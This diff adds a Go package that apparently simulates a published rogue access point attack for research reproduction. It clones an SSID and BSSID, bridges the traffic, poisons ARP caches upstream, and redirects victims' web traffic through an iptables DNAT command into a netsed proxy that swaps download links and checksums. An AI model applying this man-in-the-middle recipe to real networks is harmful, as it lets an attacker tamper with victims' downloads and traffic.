@@ -1,0 +1,198 @@
+// Package attack assembles the paper's proof-of-concept attacker from the
+// substrate packages, mirroring Section 4's recipe piece by piece:
+//
+//   - RogueKit: the two-card laptop. One WiFi interface associates to the
+//     real network as an ordinary client ("eth1", the paper's Netgear
+//     MA101); the second runs in Master mode as an access point with the
+//     same SSID and WEP key ("wlan0", the D-Link DWL-650 under hostap).
+//     parprouted bridges them (Appendix A), Netfilter DNATs the victim's
+//     port-80 traffic into a local netsed, and netsed swaps the download
+//     link and MD5 sum (Figure 2).
+//   - Deauther: the targeted forced-disassociation step ("he could force
+//     the client's disassociation from the legitimate AP until the client
+//     associates with the Rogue AP").
+//   - WEPSniffer: the Airsnort stand-in that recovers the WEP key from
+//     passively captured weak-IV traffic.
+//   - MACHarvester: sniffs valid client MACs to defeat MAC filtering.
+package attack
+
+import (
+	"repro/internal/arp"
+	"repro/internal/dot11"
+	"repro/internal/ethernet"
+	"repro/internal/inet"
+	"repro/internal/ipv4"
+	"repro/internal/netfilter"
+	"repro/internal/netsed"
+	"repro/internal/phy"
+	"repro/internal/sim"
+	"repro/internal/tcp"
+	"repro/internal/wep"
+)
+
+// RogueKitConfig configures the attacker's laptop.
+type RogueKitConfig struct {
+	// SSID to impersonate (the paper's "CORP").
+	SSID string
+	// CloneBSSID is the rogue AP's BSSID — Figure 1 clones the real AP's
+	// (AA:BB:CC:DD...).
+	CloneBSSID ethernet.MAC
+	// Channel for the rogue AP (Figure 1: real AP on 1, rogue on 6).
+	Channel phy.Channel
+	// WEPKey: the network's key, known to the attacker ("created by a
+	// valid user, using the authentication information he was given" or
+	// "retrieved ... via Airsnort").
+	WEPKey wep.Key
+	// StationMAC is the client-side interface's MAC — possibly a harvested
+	// valid MAC if the network filters.
+	StationMAC ethernet.MAC
+	// RogueTxPowerDBm lets the rogue out-shout the real AP (default 15).
+	RogueTxPowerDBm float64
+	// WlanIP / EthIP and Prefix follow Appendix A's addressing (two
+	// interfaces in the flat LAN subnet).
+	WlanIP, EthIP inet.Addr
+	Prefix        inet.Prefix
+	// DefaultGW is Appendix A's "route add default gw 10.0.0.1": the real
+	// network's router, reached through the client-side interface.
+	DefaultGW inet.Addr
+	// TargetIP/TargetPort select the website whose responses are rewritten
+	// (the paper's "Target-IP", port 80).
+	TargetIP   inet.Addr
+	TargetPort inet.Port
+	// NetsedRules are the substitutions, in netsed's s/from/to syntax.
+	NetsedRules []string
+	// StreamingNetsed selects the boundary-safe rewriter (§4.2's
+	// anticipated improvement) instead of faithful per-segment matching.
+	StreamingNetsed bool
+	// PoisonUpstream sends gratuitous ARP on the client side for victim
+	// addresses learned behind the rogue AP, so the real network re-learns
+	// them immediately instead of waiting for cache expiry.
+	PoisonUpstream bool
+	// DisableMITM builds the bridge only (a pure relay rogue — useful as a
+	// baseline and for detection experiments).
+	DisableMITM bool
+}
+
+// RogueKit is the running attacker.
+type RogueKit struct {
+	cfg RogueKitConfig
+
+	STA        *dot11.STA
+	AP         *dot11.AP
+	IP         *ipv4.Stack
+	TCP        *tcp.Stack
+	FW         *netfilter.Table
+	Netsed     *netsed.Proxy
+	Parprouted *arp.Parprouted
+
+	// VictimsAssociated counts stations that joined the rogue AP.
+	VictimsAssociated uint64
+	// UplinkUp reports whether the client side associated to the real
+	// network.
+	UplinkUp bool
+}
+
+// NewRogueKit builds and starts the attack. The two radios are placed at
+// pos; the station side starts scanning immediately.
+func NewRogueKit(k *sim.Kernel, medium *phy.Medium, pos phy.Position, cfg RogueKitConfig) (*RogueKit, error) {
+	if cfg.RogueTxPowerDBm == 0 {
+		cfg.RogueTxPowerDBm = 15
+	}
+	if cfg.TargetPort == 0 {
+		cfg.TargetPort = 80
+	}
+	kit := &RogueKit{cfg: cfg}
+
+	// Client-side card, associating to the real network like any station.
+	staRadio := medium.AddRadio(phy.RadioConfig{Name: "rogue-eth1", Pos: pos, Channel: 1})
+	kit.STA = dot11.NewSTA(k, staRadio, dot11.STAConfig{
+		MAC:    cfg.StationMAC,
+		SSID:   cfg.SSID,
+		WEPKey: cfg.WEPKey,
+		// Never join our own rogue AP (same SSID, cloned BSSID): exclude
+		// its channel from candidate selection.
+		ExcludeBSS: func(b dot11.BSS) bool { return b.Channel == cfg.Channel },
+	})
+	kit.STA.OnAssociate = func(b dot11.BSS) { kit.UplinkUp = true }
+
+	// AP-side card in Master mode: same SSID, same (cloned) BSSID, same
+	// WEP key, different channel.
+	apRadio := medium.AddRadio(phy.RadioConfig{
+		Name: "rogue-wlan0", Pos: pos, Channel: cfg.Channel, TxPowerDBm: cfg.RogueTxPowerDBm,
+	})
+	kit.AP = dot11.NewAP(k, apRadio, dot11.APConfig{
+		SSID:    cfg.SSID,
+		BSSID:   cfg.CloneBSSID,
+		Channel: cfg.Channel,
+		WEPKey:  cfg.WEPKey,
+	})
+	kit.AP.OnAssociate = func(sta ethernet.MAC) { kit.VictimsAssociated++ }
+
+	// The gateway host (Appendix A): IP forwarding on, both interfaces
+	// addressed, parprouted bridging them.
+	kit.IP = ipv4.NewStack(k, "rogue-gw")
+	kit.IP.Forwarding = true // echo 1 > /proc/sys/net/ipv4/ip_forward
+	wlan0 := kit.IP.AddIface("wlan0", kit.AP.HostNIC(), cfg.WlanIP, cfg.Prefix)
+	eth1 := kit.IP.AddIface("eth1", kit.STA.NIC(), cfg.EthIP, cfg.Prefix)
+	kit.TCP = tcp.NewStack(kit.IP)
+	if !cfg.DefaultGW.IsUnspecified() {
+		kit.IP.AddDefaultRoute(cfg.DefaultGW, "eth1")
+	}
+
+	kit.Parprouted = arp.NewParprouted(k, kit.IP, map[string]*arp.Client{
+		"wlan0": wlan0.ARP,
+		"eth1":  eth1.ARP,
+	})
+
+	if cfg.PoisonUpstream {
+		// Chain onto wlan0's observer (after parprouted's): when a victim
+		// address appears behind the rogue, immediately claim it upstream.
+		prev := wlan0.ARP.Observer
+		wlan0.ARP.Observer = func(p arp.Packet) {
+			if prev != nil {
+				prev(p)
+			}
+			if p.SenderIP.IsUnspecified() || p.SenderIP == cfg.WlanIP || p.SenderIP == cfg.EthIP {
+				return
+			}
+			claim := arp.Packet{
+				Op:       arp.OpRequest, // gratuitous ARP
+				SenderHW: kit.STA.NIC().HWAddr(), SenderIP: p.SenderIP,
+				TargetIP: p.SenderIP,
+			}
+			kit.STA.NIC().Send(ethernet.BroadcastMAC, ethernet.TypeARP, claim.Marshal())
+		}
+	}
+
+	if !cfg.DisableMITM {
+		// The paper's Netfilter redirect, verbatim.
+		kit.FW = netfilter.New()
+		kit.IP.AddHook(kit.FW)
+		cmd := "iptables -t nat -A PREROUTING -p tcp -d " + cfg.TargetIP.String() +
+			" --dport " + cfg.TargetPort.String() +
+			" -j DNAT --to " + cfg.WlanIP.String() + ":10101"
+		if _, err := kit.FW.ParseIptables(cmd); err != nil {
+			return nil, err
+		}
+		// And netsed listening where the DNAT points.
+		proxy, err := netsed.Start(kit.TCP, netsed.Config{
+			ListenPort: 10101,
+			Upstream:   inet.HostPort{Addr: cfg.TargetIP, Port: cfg.TargetPort},
+			Rules:      cfg.NetsedRules,
+			Streaming:  cfg.StreamingNetsed,
+		})
+		if err != nil {
+			return nil, err
+		}
+		kit.Netsed = proxy
+	}
+
+	kit.STA.Connect()
+	return kit, nil
+}
+
+// Stop silences the kit (both radios).
+func (r *RogueKit) Stop() {
+	r.AP.Stop()
+	r.STA.Stop()
+}
